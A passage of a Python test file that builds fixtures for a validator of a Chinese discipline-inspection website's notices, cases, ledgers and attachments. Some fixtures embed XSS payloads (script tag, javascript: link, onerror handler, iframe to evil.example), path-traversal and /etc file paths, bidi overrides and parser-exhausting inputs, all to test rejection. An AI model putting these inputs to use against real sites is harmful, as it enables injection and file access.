t = rep(site, 'description: 公开专项治理的承诺履行、典型案例、整改台账和举报渠道，接受群众监督。', 'description: 对不作为、慢作为、乱作为问题现予通报。')
d('site-description-reads-as-tongbao', {SP: t}, [(SP, line_of(t, 'description:'), 'label-reads-as-official')])
t = rep(tax, '{id: A2, name: 履行职责不担当', '{id: A1, name: 履行职责不担当')
d('taxonomy-duplicate-category-id', {TP: t}, [(TP, line_of(t, '{id: A1, name: 履行职责不担当'), 'duplicate-id')])
d('site-config-missing', {}, [(SP, 0, 'missing-file')], remove=[SP])
# Two entries a reader takes for one: a measure named as another's alias in traditional
# characters (and of a lighter 形态), a category named as another with a katakana ロ for 口
# (an id differing by a Cyrillic letter is no id at all: bad-id)
t = rep(tax, '  - {id: M03,', '  - {id: M99, name: 黨內警告, group: 党纪处分, form: 第一种形态}\n  - {id: M03,')
t = rep(t, '{id: A5, name: 信息公开不到位', '{id: A5, name: 促进发展不敢為')
# (党内警告 is M01's name: the look-alike written after it is the one named)
d('taxonomy-look-alike-entries', {TP: t}, [(TP, line_of(t, '{id: A5,'), 'look-alike-taxonomy'),
                                           (TP, line_of(t, '{id: M99,'), 'look-alike-taxonomy')])

# ---- notices
t = notice.replace('---\ntitle', 'title', 1).replace('\n---\n\n', '\n\n', 1)
d('notice-without-front-matter', {N: t}, [(N, 1, 'missing-field')])
# the optional groups the web editor saves empty when a notice does not use them
# (listing: {rows: []}, contact with empty fields) are no group: fine; one half filled is not
t = rep(notice, 'category: 通报\n', "category: 通报\nlisting:\n  subject: ''\n  rows: []\ncontact:\n  name: ''\n")
d('notice-empty-groups-as-the-editor-saves-them-are-fine', {N: t}, [])
t = rep(notice, 'category: 通报\n', "category: 通报\nlisting:\n  subject: 逾期未整改\n  rows: []\n")
d('notice-listing-begun-without-rows', {N: t}, [(N, 6, 'missing-field'), (N, 7, 'empty-list')])
t = rep(notice, 'category: 通报\n', "category: 通报\nwithdrawn:\n  date: ''\n")
d('notice-withdrawal-left-empty-is-still-said', {N: t}, [(N, 6, 'missing-field')] * 2)
t = notice + '\n<script>alert(1)</script>\n'
d('notice-script-tag', {N: t}, [(N, 24, 'unsafe-markup')])
t = notice + '\n[详情](javascript:alert(1))\n'
d('notice-javascript-link', {N: t}, [(N, 24, 'unsafe-markup')])
t = notice + '\n<img src="x.png" onerror="alert(1)">\n'
d('notice-event-handler', {N: t}, [(N, 24, 'unsafe-markup')])
t = notice + '\n<iframe src="https://evil.example/"></iframe>\n'
d('notice-iframe', {N: t}, [(N, 24, 'unlisted-host'), (N, 24, 'unsafe-markup')])
t = rep(notice, 'category: 通报', 'category: 通告')
d('notice-bad-category', {N: t}, [(N, 4, 'unknown-reference')])
t = rep(unfrozen, 'cases: [2026-001]', 'cases: [2026-099]')
d('notice-unknown-case', {N: t}, [(N, 5, 'unknown-reference')])
d('notice-bad-file-name', {'content/notices/五月通报.md': notice}, [('content/notices/五月通报.md', 1, 'bad-id')], remove=(N,))
t = notice + '\n如有疑问请联系 13912345678。\n'
d('notice-mobile-in-body', {N: t}, [(N, 24, 'personal-phone')])

t = rep(case, 'published_on: 2026-05-10', 'published_on: 2026-05-10\nembargo: "2026-12-01 09:00"')
d('notice-cites-embargoed-case', {C: t}, [(N, 5, 'notice-before-case'), (N, 22, 'quotes-unpublished-record')])

# ---- notices as official documents (公文) and their lifecycle
t = rep(notice, 'doc_number: 演纪发〔2026〕7号', 'doc_number: 演纪发[2026]7号')
d('notice-bad-doc-number', {N: t}, [(N, 6, 'bad-doc-number')])
t = rep(notice, 'doc_number: 演纪发〔2026〕7号', 'doc_number: 演纪发〔26〕第7号')
d('notice-doc-number-short-year', {N: t}, [(N, 6, 'bad-doc-number')])
t = rep(notice, 'doc_number: 演纪发〔2026〕7号', 'doc_number: 演纪发〔2025〕7号')
d('notice-doc-number-of-last-year', {N: t}, [(N, 6, 'doc-number-year')])
t = rep(notice, 'doc_number: 演纪发〔2026〕7号\n', '')
d('notice-official-without-doc-number', {N: t}, [(N, 4, 'notice-field-required')])
t = rep(rep(notice, 'doc_number: 演纪发〔2026〕7号\n', ''), 'signed_on: 2026-05-09\n', 'draft: 是\n')
d('notice-draft-may-lack-doc-number', {N: t}, [])
t = rep(rep(notice, 'category: 通报', 'category: 工作动态'), '问题的通报', '问题查处情况')
t = rep(rep(t, 'doc_number: 演纪发〔2026〕7号\n', ''), 'signed_on: 2026-05-09\n', '')
t = t[:t.index('case_texts:')] + t[t.index('---\n\n'):]  # news prints no case text
d('notice-news-needs-no-doc-number', {N: t}, [])
# Only a numbered notice of an official category may read as a 通报 or 决定.
news = rep(rep(t, 'category: 工作动态', 'category: 工作动态'), '问题查处情况', '问题的通报')
d('notice-news-titled-as-a-tongbao', {N: news}, [(N, 2, 'notice-reads-as-official')])
t = rep(t, '现将东城镇办事员张某某推诿扯皮问题通报如下。', '近日查处了东城镇推诿扯皮问题。\n\n决定对张某某予以通报批评。特此通报。')
d('notice-news-body-reads-as-a-tongbao', {N: t}, [(N, line_of(t, '决定对张某某'), 'notice-reads-as-official')])
t = rep(rep(notice, 'category: 通报', 'category: 公告'), '关于东城镇推诿扯皮问题的通报', '关于给予张某某党内警告处分的决定')
t = rep(t, 'doc_number: 演纪发〔2026〕7号\n', '')
d('notice-announcement-titled-a-decision-without-doc-number', {N: t}, [(N, 2, 'notice-reads-as-official')])
d('notice-announcement-decision-with-doc-number', {N: rep(t, 'to:', 'doc_number: 演纪发〔2026〕7号\nto:')}, [])
# GB/T 9704 7.3.5: a 公文 is signed with its 成文日期, told once, whatever its category lists
t = rep(notice, 'signed_on: 2026-05-09\n', '')
d('notice-official-without-signed-on', {N: t}, [(N, 4, 'notice-signed-on-required')])
d('notice-official-category-not-listing-signed-on-still-needs-it',
  {N: t, TP: rep(tax, 'requires: [doc_number, signed_on, to, body]', 'requires: [doc_number, to, body]')},
  [(N, 4, 'notice-signed-on-required')])
d('notice-scheduled-without-signed-on',
  {N: rep(t, 'to: 东城镇党委、政府', 'embargo: "2026-12-01 09:00"\nto: 东城镇党委、政府')},
  [(N, 4, 'notice-signed-on-required')])
t = rep(notice, 'to: 东城镇党委、政府\n', '')
d('notice-official-without-addressee', {N: t}, [(N, 4, 'notice-field-required')])
t = notice[:notice.index('---\n\n') + 4]
d('notice-official-without-body', {N: t}, [(N, 4, 'notice-body-required')])
d('notice-official-body-only-blank-lines', {N: t + '\n\n　\n'}, [(N, 4, 'notice-body-required')])
# 主送 and 抄送 carry no punctuation of their own: it would be doubled (a note, not an error).
t = rep(notice, '东城镇党委、政府\n', '东城镇党委、政府：\ncc: [县委办公室。, 县人民政府办公室。]\n')
d('notice-addressee-and-cc-with-punctuation', {N: t}, [(N, 7, 'notice-punctuation-removed'), (N, 8, 'notice-punctuation-removed')])
# A 发文字号 is issued once: the second file is refused, naming the first.
# A paragraph too dense in inline markup for the engine (its time grows with the square
# of the marks in one block): a notice body's and a page's, each at its first line
d('markup-too-dense', {N: notice + '\n' + '`办`' * 1001 + '\n',
                       'content/guide.md': '# 办事指南\n\n' + '&amp;' * 2001 + '\n'},
  [('content/guide.md', 3, 'markup-too-dense'), (N, 24, 'markup-too-dense')])
# A numeric character reference of more digits than any character needs: the engine reads
# every line of a page (code too) with Python's HTMLParser, which stops at 4,301 digits
d('reference-too-long', {N: notice + '\n东城&#' + '9' * 5000 + ';镇\n',
                         'content/guide.md': '# 办事指南\n\n```\n&#x0000000041;\n```\n'},
  [('content/guide.md', 4, 'reference-too-long'), (N, 24, 'reference-too-long')])
# ... counted as the engine reads a body: never in code (a fenced block, or an indented
# block no list item or box takes in), whose text it escapes without reading its marks;
# an indented block under a list item is the item's text, and counted
d('markup-dense-in-code-only', {N: notice + '\n```html\n' + '<b>办</b>' * 1500 + '\n\n'
                                + '<i>x</i>' * 10 + '\n```\n\n说明：\n\n    ' + '<b>办</b>' * 1500
                                + '\n\n- 事项\n\n    ' + '<b>办</b>' * 1500 + '\n'},
  [(N, 36, 'markup-too-dense')])
# A fence nothing closes (the very same fence, at the margin): the engine reads the rest of
# the body again from each one and shows it as text; a longer or indented fence closes nothing
d('unclosed-code-fence', {N: notice + '\n```\n<b>办</b>\n ```\n````\n',
                          'content/guide.md': '# 办事指南\n\n~~~~ \n正文\n~~~\n'},
  [('content/guide.md', 3, 'unclosed-code-fence'), ('content/guide.md', 5, 'unclosed-code-fence'),
   (N, 24, 'unclosed-code-fence'), (N, 27, 'unclosed-code-fence')])
# A fence the engine does not read as one (indented, or closed by a longer fence) is text
# on the page: a bidi override written as a reference after it is there, as check says
d('notice-indented-fence-is-text', {N: notice + '\n   ```\n东城&#x202E;镇\n   ```\n'},
  [(N, 25, 'control-character')])
# ... and a reference definition counts 100: the engine reads the rest of its block again
# for each written over two lines (21 in one block are too many, 20 are not)
d('markup-too-dense-definitions', {N: notice + '\n' + '\n'.join(f'[{i}]:\n    https://example.gov.cn/{i}' for i in range(21)) + '\n'},
  [(N, 24, 'markup-too-dense')])
N2 = 'content/notices/2026-06-notice.md'
t = rep(rep(notice, 'date: 2026-05-10', 'date: 2026-06-01'), 'signed_on: 2026-05-09', 'signed_on: 2026-06-01')
d('notice-doc-number-used-twice', {N2: rep(t, '推诿扯皮问题的通报', '推诿扯皮问题整改情况的通报')}, [(N2, 6, 'duplicate-doc-number')])
# ... and written in traditional characters it is the same number to a reader
d('notice-doc-number-used-twice-in-traditional-form', {N2: rep(rep(t, '推诿扯皮问题的通报', '推诿扯皮问题整改情况的通报'), 'doc_number: 演纪发〔2026〕7号', 'doc_number: 演紀發〔2026〕7号')}, [(N2, 6, 'duplicate-doc-number')])
t = rep(notice, 'category: 通报', 'category: bulletins')
d('notice-category-by-slug', {N: t}, [])
t = rep(notice, 'date: 2026-05-10', 'date: 2026-12-01')
d('notice-dated-in-future', {N: t}, [(N, 3, 'notice-in-future')])
t = rep(notice, 'date: 2026-05-10', 'date: 2026-12-01\nembargo: 2026-12-01 09:00')
d('notice-future-date-with-embargo-is-scheduled', {N: t}, [])
t = rep(notice, 'signed_on: 2026-05-09', 'signed_on: 2026-05-11')
d('notice-signed-after-published', {N: t}, [(N, 3, 'date-order')])
t = notice.replace('---\n\n', 'withdrawn:\n  date: 2026-05-01\n  reason: 名单有误\n---\n\n', 1)
d('notice-withdrawn-before-published', {N: t}, [(N, 21, 'date-order')])
t = notice.replace('---\n\n', 'withdrawn:\n  date: 2026-06-01\n---\n\n', 1)
d('notice-withdrawn-without-reason', {N: t}, [(N, 21, 'missing-field')])
t = notice.replace('---\n\n', 'corrections:\n  - date: 2026-05-01\n    text: 更正单位名称\n---\n\n', 1)
d('notice-correction-before-published', {N: t}, [(N, 21, 'date-order')])
t = notice.replace('---\n\n', 'attachments:\n  - file: 名单.xlsx\n    title: 名单\n---\n\n', 1)
d('notice-attachment-missing', {N: t}, [(N, 21, 'attachment-missing')])
# An issued notice's attachment with no digest recorded (issued before notice freeze did it): a note
d('notice-attachment-present', {N: t, 'content/notices/files/名单.xlsx': (REPO / 'content/notices/files/2026-c1-late-units.xlsx').read_bytes()}, [(N, 20, 'notice-attachment-not-frozen')])
# ... recorded at freeze: fine while the file is the one issued; replaced after issue it is refused at
# the attachment unless a correction names the file and its new digest
import hashlib
SHEET = (REPO / 'content/notices/files/2026-c1-late-units.xlsx').read_bytes()
OTHER = SHEET + b'\0'
ISSUED, NOW_DIGEST = hashlib.sha256(SHEET).hexdigest(), hashlib.sha256(OTHER).hexdigest()
frozen_att = t.replace('---\n\n', f'attachment_digests:\n  - file: 名单.xlsx\n    sha256: {ISSUED}\n---\n\n', 1)
d('notice-attachment-digest-recorded', {N: frozen_att, 'content/notices/files/名单.xlsx': SHEET}, [])
d('notice-attachment-replaced-after-issue', {N: frozen_att, 'content/notices/files/名单.xlsx': OTHER}, [(N, 21, 'attachment-changed')])
corrected = frozen_att.replace('---\n\n', f'corrections:\n  - date: 2026-06-01\n    text: 更正附件名单中的单位名称\n    attachment: 名单.xlsx\n    sha256: {NOW_DIGEST}\n---\n\n', 1)
d('notice-attachment-replaced-with-a-correction', {N: corrected, 'content/notices/files/名单.xlsx': OTHER}, [])
d('notice-attachment-corrected-then-put-back', {N: corrected, 'content/notices/files/名单.xlsx': SHEET}, [(N, 21, 'attachment-changed')])
t2 = corrected.replace(f'    sha256: {NOW_DIGEST}\n', '', 1)
d('notice-attachment-correction-without-digest', {N: t2, 'content/notices/files/名单.xlsx': OTHER}, [(N, 21, 'attachment-changed'), (N, line_of(t2, '    attachment: 名单.xlsx'), 'correction-attachment-incomplete')])
t2 = frozen_att.replace('  - file: 名单.xlsx\n    sha256', '  - file: 名录.xlsx\n    sha256', 1)
d('notice-attachment-digest-of-another-file', {N: t2, 'content/notices/files/名单.xlsx': SHEET}, [(N, 20, 'notice-attachment-not-frozen'), (N, line_of(t2, '  - file: 名录.xlsx'), 'attachment-digest-not-listed')])
t2 = frozen_att.replace(f'    sha256: {ISSUED}', '    sha256: 12345', 1)
d('notice-attachment-digest-not-hex', {N: t2, 'content/notices/files/名单.xlsx': SHEET}, [(N, 20, 'notice-attachment-not-frozen'), (N, line_of(t2, '    sha256: 12345'), 'bad-format')])
# A label frozen into an issued notice keeps the placeholders the generator fills in
t2 = rep(notice, 'printed: "{date}印发"', 'printed: "{day}印发"')
d('notice-frozen-word-placeholder', {N: t2}, [(N, 10, 'notice-word-placeholders')])
t2 = rep(notice, 'listing_columns: [序号, 单位, 情形, 逾期天数, 整改要求]', 'listing_columns: [序号, 单位, 情形, 整改要求]')
d('notice-frozen-listing-columns-short', {N: t2}, [(N, 10, 'notice-word-columns')])
# An issued notice printing today's labels (issued before words were frozen): a note
t2 = '\n'.join(l for l in notice.split('\n') if not l.startswith('words:'))
d('notice-words-not-frozen', {N: t2}, [(N, 4, 'notice-words-not-frozen')])
# A PDF with a page and no text: what a scanner makes of a paper document.
def _blank_pdf():
    import io
    from pypdf import PdfWriter
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
BLANK_PDF = _blank_pdf()
t = notice.replace('---\n\n', 'attachments:\n  - file: 扫描件.pdf\n    title: 原件扫描\n---\n\n', 1)
d('notice-attachment-scanned-image', {N: t, 'content/notices/files/扫描件.pdf': BLANK_PDF}, [(N, 20, 'notice-attachment-not-frozen'), (N, 21, 'attachment-unscannable')])
t = rep(t, '    title: 原件扫描\n', '    title: 原件扫描\n    reviewed: 是\n')
d('notice-attachment-scanned-image-reviewed', {N: t, 'content/notices/files/扫描件.pdf': BLANK_PDF}, [(N, 20, 'notice-attachment-not-frozen')])
t = notice.replace('---\n\n', 'attachments:\n  - file: ../../data/units.csv\n    title: 名单\n  - file: 名单.exe\n    title: 程序\n'
                   '  - file: "a](javascript:alert(1)).pdf"\n    title: 链接\n  - file: /etc/名单.pdf\n    title: 绝对路径\n---\n\n', 1)
d('notice-attachment-bad-path', {N: t}, [(N, 21, 'attachment-bad-path'), (N, 23, 'attachment-bad-path'),
                                         (N, 25, 'attachment-bad-path'), (N, 27, 'attachment-bad-path')])
t = notice.replace('---\n\n', 'attachments:\n  - title: 名单\n---\n\n', 1)
d('notice-attachment-without-file', {N: t}, [(N, 21, 'missing-field')])
LISTING = ('listing:\n  subject: 承诺书报送情况\n  commitment: C1\n  as_of: 2026-04-07\n  rows:\n'
           '    - unit: XW01\n      unit_name: 县委办公室\n      status: 未报送\n      days_late: 18\n'
           '      measure: 限期补报\n---\n\n')
t = notice.replace('---\n\n', LISTING, 1)
d('notice-listing-is-valid', {N: t}, [])
d('notice-listing-unknown-unit', {N: rep(t, 'unit: XW01', 'unit: XW99')}, [(N, 25, 'unknown-reference')])
d('notice-listing-bad-status', {N: rep(t, 'status: 未报送', 'status: 没报')}, [(N, 27, 'bad-enum')])
d('notice-listing-after-notice-date', {N: rep(t, 'as_of: 2026-04-07', 'as_of: 2026-05-12')}, [(N, 23, 'date-order')])
d('notice-listing-without-rows', {N: rep(t, '  rows:\n    - unit: XW01\n      unit_name: 县委办公室\n      status: 未报送\n      days_late: 18\n      measure: 限期补报\n', '')}, [(N, 21, 'missing-field')])

# ---- cross-record consistency: reported at the notice's line
t = case + 'withdrawn:\n  date: 2026-06-01\n  reason: 事实有误\n'
# (a notice that froze the case's text shows the site's statement in its place instead)
d('notice-cites-withdrawn-case', {C: t, N: unfrozen}, [(N, 5, 'notice-cites-withdrawn-case'),
                                                       (N, 16, 'quotes-unpublished-record')])
body_link = unfrozen + '\n详见[典型案例](../cases/2026-001.md)。\n'
nolist = rep(body_link, 'cases: [2026-001]\n', '')
d('notice-body-links-withdrawn-case', {C: t, N: nolist}, [(N, 15, 'quotes-unpublished-record'),
                                                          (N, 17, 'notice-cites-withdrawn-case')])
# a case withdrawn after the notice that froze its text: the site's statement stands in its
# place, and the issued notice says so in a correction (a note until it does)
since = rep(notice, '现将东城镇办事员张某某推诿扯皮问题通报如下', '现将有关问题通报如下')
d('notice-frozen-case-withdrawn-since-uncorrected', {C: t, N: since},
  [(N, line_of(since, '  - case: "2026-001"'), 'notice-case-withdrawn-uncorrected')])
corrected = rep(since, 'signed_on: 2026-05-09\n', 'signed_on: 2026-05-09\ncorrections:\n  - date: 2026-05-20\n    text: 更正标点\n')
d('notice-frozen-case-withdrawn-since-corrected-before', {C: t, N: corrected},
  [(N, line_of(corrected, '  - case: "2026-001"'), 'notice-case-withdrawn-uncorrected')])
corrected = rep(since, 'signed_on: 2026-05-09\n', 'signed_on: 2026-05-09\ncorrections:\n  - date: 2026-06-01\n    text: 撤回所通报的第1个案例（经复核事实有误）\n')
d('notice-frozen-case-withdrawn-since-corrected', {C: t, N: corrected}, [])
# the record now says 党内严重警告 where the issued text said 党内警告: the shorter spelling
# inside the longer one is no match (token-exact), and the reverse neither
t = rep(case, 'measures: [诫勉谈话]', 'measures: [诫勉谈话, 党内严重警告]')
said = rep(notice, '张某受到诫勉谈话。', '张某受到诫勉谈话、党内警告处分。')
d('notice-cited-case-warned-where-the-record-says-severe', {C: t, N: said},
  [(C, line_of(t, 'measures: [诫勉谈话, 党内严重警告]'), 'notice-measure-not-in-case'),
   (C, line_of(t, 'measures: [诫勉谈话, 党内严重警告]'), 'notice-summary-differs')])
# the issued text says 3 persons were handled; the record names one
said = rep(notice, '张某受到诫勉谈话。', '张某等3人受到诫勉谈话。')
d('notice-cited-case-three-handled-one-recorded', {N: said},
  [(C, line_of(case, 'persons:'), 'notice-person-count-differs')])
# the notice says it reports 2 cases; it cites one
said = rep(notice, '现将东城镇办事员张某某推诿扯皮问题通报如下。', '现将2起典型问题通报如下。')
d('notice-says-two-cases-cites-one', {N: said},
  [(N, line_of(said, '现将2起典型问题通报如下。'), 'notice-case-count-differs')])
# a draft notice writes 应于 2026年5月20日 前: an ASCII space beside Chinese (a note, at its line)
t = rep(rep(notice, '现将东城镇办事员张某某推诿扯皮问题通报如下。', '请于 2026年5月20日 前整改。'),
        'title: 关于东城镇推诿扯皮问题的通报\n', 'title: 关于东城镇推诿扯皮问题的通报\ndraft: 是\n')
d('notice-draft-space-beside-chinese', {N: t},
  [(N, line_of(t, '请于 2026年5月20日 前整改。'), 'notice-space-in-chinese')])
# a person handled (handled_on) after the day of the notice that reports it
t = rep(case, '    measures: [诫勉谈话]\n', '    measures: [诫勉谈话]\n    handled_on: 2026-05-11\n')
d('case-handled-after-the-notice-citing-it', {C: t},
  [(C, line_of(t, 'handled_on:'), 'case-handled-after-notice')])
# a 通报 column item whose title's 文种 is another (GB/T 9704: 事由 and 文种)
t = rep(notice, 'title: 关于东城镇推诿扯皮问题的通报', 'title: 关于东城镇推诿扯皮问题的通知')
d('notice-title-genre-not-the-categorys', {N: t}, [(N, 2, 'notice-title-genre')])
# a cited case whose measure was changed after the notice froze its text, with no correction
# of the case: the site's summary above the notice would contradict it unsaid (a note)
t = rep(case, 'measures: [诫勉谈话]', 'measures: [党内警告]')
d('notice-cited-case-measure-changed-uncorrected', {C: t},
  [(C, line_of(t, 'measures: [党内警告]'), 'notice-measure-not-in-case'),
   (C, line_of(t, 'measures: [党内警告]'), 'notice-summary-differs')])
t = t + 'corrections:\n  - date: 2026-06-01\n    text: 更正：处理措施有误，已改正。\n'
d('notice-cited-case-measure-changed-corrected', {C: t}, [])
# 警告 is the 纪律处分条例's word for 党内警告 and the 政务处分法's for 政务警告: a record that
# says 警告 does not say which (an alias of the taxonomy that is part of another entry's
# name); 开除 is part of 开除党籍 and 开除公职 and no alias; 严重警告 and 记过 say one
t = rep(case, 'measures: [诫勉谈话]', 'measures: [警告]')
d('case-measure-written-jinggao-is-ambiguous', {C2: rep(t, 'id: 2026-001', 'id: 2026-002')},
  [(C2, line_of(t, 'measures: [警告]'), 'reference-ambiguous')])
t = rep(case, 'measures: [诫勉谈话]', 'measures: [开除, 严重警告, 记过]')
d('case-measure-written-kaichu-is-ambiguous', {C2: rep(t, 'id: 2026-001', 'id: 2026-002')},
  [(C2, line_of(t, 'measures: [开除'), 'reference-ambiguous')])
# the issued text says 张某 received 党内警告 too, the record (edited since) no longer
# gives it: the summary would drop it unsaid (a note, at the person's measures)
said = rep(notice, '张某受到诫勉谈话。', '张某受到诫勉谈话、党内警告处分。')
d('notice-names-a-measure-the-record-dropped', {N: said},
  [(C, line_of(case, 'measures: [诫勉谈话]'), 'notice-measure-not-in-case')])
# 通报批评 said of his unit, in his sentence, is not his: quiet
said = rep(notice, '张某受到诫勉谈话。', '张某受到诫勉谈话，对其所在单位予以通报批评。')
d('notice-criticises-the-unit-in-the-persons-sentence', {N: said}, [])
t = rep(case, 'outcome: 责令整改。', 'outcome: 责令整改。\ndraft: 是')
d('notice-body-links-draft-case', {C: t, N: nolist}, [(N, 15, 'quotes-unpublished-record'),
                                                      (N, 17, 'notice-before-case')])

# ---- units in time, exemptions (免报)
E = 'data/exemptions.csv'
t = units.replace(',否\n', ',否,,\n').replace(',是\n', ',是,,\n')
t = rep(t, 'law_enforcement\n', 'law_enforcement,active_from,active_until\n')
t = rep(t, 'XX01,县第一中学,学校,县教育局,否,否,否,,', 'XX01,县第一中学,学校,县教育局,否,否,否,2026-06-01,2026-05-01')
d('unit-removed-before-it-joined', {U: t}, [(U, 5, 'date-order')])
t2 = rep(t, '2026-06-01,2026-05-01', '2026年6月31日,')
d('unit-impossible-join-date', {U: t2}, [(U, 5, 'bad-date')])
EX = 'item,unit,starts_on,ends_on,reason\n'
d('exemption-is-valid', {E: EX + '工作月报,XZ01,2026-05-01,2026-06-30,机构调整\nC1,县委办公室,2026-03-01,,新设单位\n'}, [])
d('exemption-unknown-item', {E: EX + '月度报告,XZ01,2026-05-01,,机构调整\n'}, [(E, 2, 'unknown-reference')])
d('exemption-unknown-unit', {E: EX + 'C1,XZ99,2026-05-01,,机构调整\n'}, [(E, 2, 'unknown-reference')])
d('exemption-ends-before-it-starts', {E: EX + 'C1,XZ01,2026-05-01,2026-04-01,机构调整\n'}, [(E, 2, 'date-order')])
d('exemption-without-reason', {E: EX + 'C1,XZ01,2026-05-01,,\n'}, [(E, 2, 'missing-field')])

# ---- ledger items keep their history when reopened
LH = 'id,unit,category,problem,measures,target,opened_on,deadline,lead_leader,responsible,handling,status,closed_on,reopened_on,reopen_reason,earlier_closings\n'
body = ledger.split('\n', 1)[1].replace(',\n', ',,,,\n').replace('2026-04-20\n', '2026-04-20,,,\n')
t = LH + rep(body, '已销号,2026-04-20,,,', '重新打开,2026-04-20,2026-05-02,回头看发现反弹,')
d('ledger-reopened-keeps-close-date', {L: t}, [])
t = LH + rep(body, '已销号,2026-04-20,,,', '重新打开,2026-04-20,,,')
d('ledger-reopened-without-date-and-reason', {L: t}, [(L, 2, 'reopen-incomplete')])
t = LH + rep(body, '已销号,2026-04-20,,,', '重新打开,2026-04-20,2026-04-10,回头看发现反弹,')
d('ledger-reopened-before-closed', {L: t}, [(L, 2, 'date-order')])
t = LH + rep(body, '已销号,2026-04-20,,,', '已销号,2026-05-20,2026-05-02,回头看发现反弹,2026-04-20')
d('ledger-closed-again-after-reopening', {L: t}, [])
t = LH + rep(body, '已销号,2026-04-20,,,', '已销号,2026-04-25,2026-05-02,回头看发现反弹,2026-04-20')
d('ledger-closed-again-before-reopening', {L: t}, [(L, 2, 'date-order')])
t = LH + rep(body, '已销号,2026-04-20,,,', '已销号,2026-05-20,2026-05-02,回头看发现反弹,2026-05-10')
d('ledger-earlier-closing-after-reopening', {L: t}, [(L, 2, 'date-order')])
t = LH + rep(body, '整改中,,,,', '整改中,2026-05-01,,,')
d('ledger-close-date-on-open-item', {L: t}, [(L, 3, 'date-without-closed')])

# ---- notice categories in the taxonomy
t = rep(tax, '{name: 公告, slug: announcements', '{name: 公告, slug: bulletins')
d('taxonomy-duplicate-notice-category-slug', {TP: t}, [(TP, line_of(t, '{name: 公告, slug: bulletins'), 'duplicate-id')])
t = rep(tax, 'requires: [doc_number, signed_on, to, body]', 'requires: [doc_number, 文号, to, body]')
d('taxonomy-notice-category-unknown-requirement', {TP: t}, [(TP, line_of(t, '文号, to'), 'bad-enum')])

# ---- privacy rules
t = rep(case, '    measures: [诫勉谈话]', '    measures: [诫勉谈话]\n  - name: 李某某\n    position: 股长\n    redacted: 是')
t = rep(t, 'outcome: 责令整改。', 'outcome: 责令整改，李某某作出检查。')
d('case-redacted-name-in-outcome', {C: t}, [(C, 18, 'redacted-name-shown')])
t = rep(subs, 'https://example.gov.cn/c1', 'https://pan.example.com/c1')
d('submission-link-to-unlisted-host', {S: t}, [(S, 3, 'unlisted-host')])

# a comment is no page's, but the repository holding it is shared (review-privacy8)
t = rep(case, 'unit: XZ01', 'unit: XZ01  # 联系人手机 13812345678\n# 举报人电话：139 1234 5678\n# 见第3页 #12号')
d('privacy-mobile-in-a-yaml-comment', {C: t}, [(C, 5, 'personal-data-in-comment'), (C, 6, 'personal-data-in-comment')])
t = rep(notice, 'date: 2026-05-10', 'date: 2026-05-10\n# 联系人身份证 11010519491231002X')
d('privacy-id-in-a-front-matter-comment', {N: t}, [(N, 4, 'personal-data-in-comment')])
t = rep(case, 'title: 东城镇办事员张某某推诿扯皮问题', 'title: "东城镇办事员张某某推诿扯皮问题 # 手机 13812345678"')
d('privacy-hash-inside-a-quoted-value-is-no-comment', {C: t}, [(C, 3, 'personal-phone')])


# ---- every file is read or named (issue 12)
def xlsx(sheets, setup=None):
    """Workbook bytes: {sheet title: rows}; setup(book) may hide rows, merge cells..."""
    return workbook(sheets, setup)
def workbook(sheets, setup=None):  # kept by this name: a later xlsx(rows) takes rows only
    import datetime as _dt, io, openpyxl
    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    if setup:
        setup(book)
    book.properties.created = book.properties.modified = _dt.datetime(2026, 1, 1)
    out = io.BytesIO()
    book.save(out)
    # the same bytes on every run: entries re-zipped with a fixed time
    import zipfile
    fixed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as src, \
            zipfile.ZipFile(fixed, 'w', zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == 'docProps/core.xml':  # openpyxl stamps the save time
                import re as _re
                data = _re.sub(rb'(<dcterms:modified[^>]*>)[^<]*', rb'\g<1>2026-01-01T00:00:00Z', data)
            dst.writestr(zipfile.ZipInfo(info.filename, (2026, 1, 1, 0, 0, 0)), data)
    return fixed.getvalue()
xlsx_sheets = xlsx  # (xlsx is defined again below, for attachments)
case2 = rep(rep(case, 'id: 2026-001', 'id: 2026-002'), '张某某', '李某某', 5)
d('file-case-saved-as-yaml', {'data/cases/2026-002.yaml': case2}, [('data/cases/2026-002.yaml', 1, 'file-wrong-extension')])
d('file-case-saved-as-upper-YML', {'data/cases/2026-002.YML': case2}, [('data/cases/2026-002.YML', 1, 'file-wrong-extension')])
d('file-case-in-sub-folder', {'data/cases/2026/2026-002.yml': case2}, [('data/cases/2026/2026-002.yml', 1, 'file-wrong-folder')])
d('file-notice-in-sub-folder', {'content/notices/2026/2026-06-notice.md': notice}, [('content/notices/2026/2026-06-notice.md', 1, 'file-wrong-folder')])
d('file-ledger-upper-CSV', {'data/ledger/第二批.CSV': ledger.replace('TZ-', 'TB-')}, [('data/ledger/第二批.CSV', 1, 'file-wrong-extension')])
d('file-ledger-old-xls', {'data/ledger/旧台账.xls': b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + b'\0' * 504}, [('data/ledger/旧台账.xls', 1, 'file-old-workbook')])
d('file-units-saved-as-wps-et', {'data/units.et': b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'}, [('data/units.et', 1, 'file-old-workbook')])
# every other spreadsheet or document format a clerk may commit is named for what it is,
# with how to save it (Numbers has its own way), never passed over as an unknown file;
# a .txt Excel or WPS saved as tab-separated text is told to be named .csv
d('file-spreadsheets-and-documents-in-other-formats', {'data/units.ods': b'PK\x03\x04ods', 'data/ledger/台账.numbers': b'PK\x03\x04',
  'data/ledger/整改.wps': b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'data/ledger/通报.docx': b'PK\x03\x04', 'data/ledger/模板.ett': b'\xd0\xcf\x11\xe0',
  'data/ledger/导出.txt': ledger.replace(',', '\t').encode('gb18030'), 'data/ledger/说明.txt': '第二批台账下周报送。\n'},
  [('data/ledger/台账.numbers', 1, 'file-old-workbook'), ('data/ledger/导出.txt', 1, 'file-text-table'), ('data/ledger/整改.wps', 1, 'file-document'),
   ('data/ledger/模板.ett', 1, 'file-old-workbook'), ('data/ledger/说明.txt', 1, 'file-unknown'), ('data/ledger/通报.docx', 1, 'file-document'),
   ('data/units.ods', 1, 'file-old-workbook')])
# an .xls or .et workbook renamed (or saved by WPS in its own format) as a .csv: named as
